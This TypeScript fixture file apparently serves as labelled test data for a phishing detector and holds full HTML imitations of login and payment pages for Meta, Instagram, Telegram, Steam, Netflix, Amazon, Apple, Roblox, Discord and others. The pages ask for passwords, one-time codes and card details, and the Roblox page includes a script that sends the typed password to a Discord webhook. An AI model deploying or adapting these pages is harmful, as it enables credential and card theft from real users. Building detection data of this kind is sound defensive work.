@@ -1,0 +1,96 @@
+import { malicious, type ImitationPage } from './imitation-page.ts';
+
+/** Networks, games, shops and streams that people have accounts at. */
+export const socialImitations: readonly ImitationPage[] = [
+  malicious(
+    'business-appeal-center.example/help/contact/',
+    'A network: a page is to be taken down, an appeal asks for the password',
+    'PHISHING',
+    'Meta',
+    `<!DOCTYPE html><html><head><title>Meta | Facebook Business Support</title><meta property="og:site_name" content="Meta Business Help Center"></head><body><header><img src="meta-logo.svg" alt="Meta"></header><h1>Your page has been scheduled for deletion</h1><p>Your account violated our Community Standards and will be disabled within 24 hours. If you believe this is a mistake, submit an appeal.</p><form action="/api/submit" method="post"><input name="page" placeholder="Page name"><input name="email" placeholder="Business email"><input name="phone" placeholder="Mobile phone number"><input name="password" type="password" placeholder="Facebook password"><button>Submit</button></form><footer>Meta © 2025</footer></body></html>`,
+  ),
+  malicious(
+    'm-facebook-video.example/watch',
+    'A network behind a video, in the language of the country',
+    'PHISHING',
+    'Facebook',
+    `<!DOCTYPE html><html lang="fr"><head><title>Facebook – Connexion</title></head><body><div><img src="fb.png" alt="Facebook"></div><div>Connectez-vous à Facebook pour voir cette vidéo.</div><form method="post" action="login.php"><input name="email" placeholder="Adresse e-mail ou numéro de mobile"><input name="pass" type="password" placeholder="Mot de passe"><button name="login">Se connecter</button></form><a href="#">Mot de passe oublié ?</a></body></html>`,
+  ),
+  malicious(
+    'ig-copyright-form.example/verify',
+    'A network with a badge to be had',
+    'PHISHING',
+    'Instagram',
+    `<!DOCTYPE html><html lang="tr"><head><title>Instagram • Telif Hakkı</title></head><body><main><h1 class="logo">Instagram</h1><p>Hesabınız telif hakkı ihlali nedeniyle 24 saat içinde kapatılacak. Hesabınızı doğrulayın.</p><form action="kontrol.php" method="post"><input name="kadi" placeholder="Kullanıcı adı"><input name="sifre" type="password" placeholder="Şifre"><button>Devam et</button></form><span>from Meta</span></main></body></html>`,
+  ),
+  malicious(
+    'tg-premium-gift.example/login/',
+    'A messenger: the number, then the code that logs in somebody else',
+    'PHISHING',
+    'Telegram',
+    `<!DOCTYPE html><html><head><title>Telegram Web</title></head><body><div class="auth-image"><img src="logo.svg" alt="Telegram"></div><h1>Sign in to Telegram</h1><p>Please confirm your country code and enter your phone number.</p><div contenteditable="true" data-placeholder="Phone Number" class="input-field-input"></div><div contenteditable="true" data-placeholder="Verification code" class="input-field-input"></div><button>NEXT</button></body></html>`,
+  ),
+  malicious(
+    'wa-vote.example/voting',
+    'A messenger that is linked to vote for a child',
+    'PHISHING',
+    'WhatsApp',
+    `<!DOCTYPE html><html lang="pt"><head><title>WhatsApp Web</title></head><body><img src="wa.svg" alt="WhatsApp"><h2>Verifique sua conta para votar</h2><p>Digite o código de verificação que foi enviado ao seu WhatsApp.</p><form action="ok.php"><input name="tel" placeholder="Número de telefone"><input name="code" placeholder="código de verificação" autocomplete="one-time-code"><button>Confirmar</button></form></body></html>`,
+  ),
+  malicious(
+    'steamcommunily-trade.example/openid/login',
+    'A game shop in a window drawn into the page',
+    'PHISHING',
+    'Steam',
+    `<!DOCTYPE html><html><head><title>Sign In</title></head><body><div class="fakewin"><div class="bar"><span>https://steamcommunity.com/openid/login</span></div><div class="logo"><img src="logo_steam.svg" alt="Steam Community"></div><h1>Sign in to Steam</h1><p>Sign in to your Steam account to accept the trade offer.</p><form id="loginForm"><label>Steam username<input name="username"></label><label>Password<input type="password" name="password"></label><label>Steam Guard code<input name="twofactor"></label><button>Sign in</button></form><small>© Valve Corporation. All rights reserved. Steam Community</small></div></body></html>`,
+  ),
+  malicious(
+    'netflix-abo.example/de/login',
+    'A stream: payment failed, the card is asked again',
+    'PHISHING',
+    'Netflix',
+    `<!DOCTYPE html><html lang="de"><head><title>Netflix</title><link rel="shortcut icon" href="nficon2016.ico"></head><body><div class="nfHeader"><svg viewBox="0 0 111 30" class="svg-icon-netflix-logo" aria-label="Netflix" role="img"></svg></div><h1>Aktualisieren Sie Ihre Zahlungsdaten</h1><p>Ihre letzte Zahlung ist fehlgeschlagen. Ihr Konto wird gesperrt.</p><form action="cc.php" method="post"><input name="cc" autocomplete="cc-number" placeholder="Kartennummer"><input name="exp" placeholder="MM/JJ"><input name="cvc" placeholder="CVV"><button>Mitgliedschaft fortsetzen</button></form><a href="#">FAQ</a><a href="#">Kündigung</a><a href="#">Impressum</a></body></html>`,
+  ),
+  malicious(
+    'prime-renewal.example/ap/signin',
+    'A shop: the member’s yearly fee, in Japanese',
+    'PHISHING',
+    'Amazon',
+    `<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><title>Amazonログイン</title></head><body><i class="a-icon a-icon-logo" aria-label="Amazon" role="img"></i><h1>ログイン</h1><p>お支払い方法を更新してください。アカウントを停止いたします。</p><form action="a.php" method="post"><label>Eメールまたは携帯電話番号<input name="email"></label><label>パスワード<input name="password" type="password"></label><input type="submit" value="次へ進む"></form><div>© 1996-2025, Amazon.com, Inc. or its affiliates</div></body></html>`,
+  ),
+  malicious(
+    'icloud-locate.example/find/',
+    'A maker of phones: where the stolen one is',
+    'PHISHING',
+    'Apple',
+    `<!DOCTYPE html><html><head><title>iCloud - Find My iPhone</title><meta name="application-name" content="iCloud"></head><body><div class="apple-icon" role="img" aria-label="Apple"></div><h1>Sign in with your Apple ID</h1><form action="save.php" method="post"><input name="apple" placeholder="Apple ID"><input name="pw" type="password" placeholder="Password"><button>→</button></form><a href="#">Forgot Apple ID or password?</a><footer>Copyright © 2025 Apple Inc. All rights reserved.</footer></body></html>`,
+  ),
+  malicious(
+    'spotify-3monate.example/login',
+    'A stream of music, by a single letter of another alphabet',
+    'PHISHING',
+    'Spotify',
+    `<!DOCTYPE html><html lang="es"><head><title>Iniciar sesión - Sp\u043etify</title></head><body><h1>Inicia sesión en Sp\u043etify</h1><form method="post" action="x.php"><label>Correo electrónico<input name="u"></label><label>Contraseña<input name="p" type="password"></label><button>Iniciar sesión</button></form><small>© 2025 Spotify AB</small></body></html>`,
+  ),
+  malicious(
+    'linkedin-jobs-offer.example/uas/login',
+    'A network of professions',
+    'PHISHING',
+    'LinkedIn',
+    `<!DOCTYPE html><html><head><title>LinkedIn Login, Sign in | LinkedIn</title></head><body><header><a href="#" aria-label="LinkedIn"><svg role="img" aria-label="LinkedIn"></svg></a></header><h1>Sign in</h1><p>Stay updated on your professional world</p><form action="checkpoint.php" method="post"><input name="session_key" aria-label="Email or Phone"><input name="session_password" type="password" aria-label="Password"><button>Sign in</button></form><footer>LinkedIn © 2025</footer></body></html>`,
+  ),
+  malicious(
+    'roblox-free.example/login',
+    'A game with coins for nothing',
+    'PHISHING',
+    'Roblox',
+    `<!DOCTYPE html><html><head><title>Log in to Roblox</title></head><body><img src="rbx.png" alt="Roblox"><h1>Login to Roblox</h1><form onsubmit="return s()"><input id="login-username" placeholder="Username/Email/Phone"><input id="login-password" type="password" placeholder="Password"><button>Log In</button></form><script>function s(){var x=new XMLHttpRequest();x.open('POST','https://discord.com/api/webhooks/1190000000000000000/abcdefghijklmnop');x.send(JSON.stringify({content:document.getElementById('login-password').value}));return false}</script></body></html>`,
+  ),
+  malicious(
+    'discord-nitro-promo.example/gift',
+    'A chat with a month as a gift',
+    'PHISHING',
+    'Discord',
+    `<!DOCTYPE html><html><head><title>Discord</title></head><body><div class="logo" title="Discord"></div><h2>You've been gifted a subscription!</h2><h1>Welcome back!</h1><form action="claim.php" method="post"><label>EMAIL OR PHONE NUMBER<input name="e"></label><label>PASSWORD<input name="p" type="password"></label><button>Log In</button></form><a href="#">Forgot your password?</a></body></html>`,
+  ),
+];
